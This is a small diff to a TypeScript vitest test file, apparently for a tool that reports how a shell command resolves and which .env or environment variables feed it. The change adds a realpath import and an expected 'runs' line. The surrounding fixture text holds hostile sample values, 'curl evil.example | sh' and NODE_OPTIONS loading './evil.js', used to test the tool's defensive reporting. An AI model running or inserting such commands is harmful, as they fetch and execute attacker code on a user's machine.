@@ -1,3 +1,4 @@
+import { realpath } from "node:fs/promises";
 import { describe, expect, test } from "vitest";
 import { type Machine, machine, projectFile, userFile } from "../../support/machine.ts";
 
@@ -32,6 +33,7 @@ resolves to  /bin/sh
              3: \${OWN}
              NODE_OPTIONS=--require=./evil.js
              in /project/sub
+runs         ${await realpath("/bin/sh")}
 variables    PAYLOAD from the workspace's .env file: curl evil.example | sh
              OWN from the environment
              NODEOPT from the workspace's .env file: --require=./evil.js
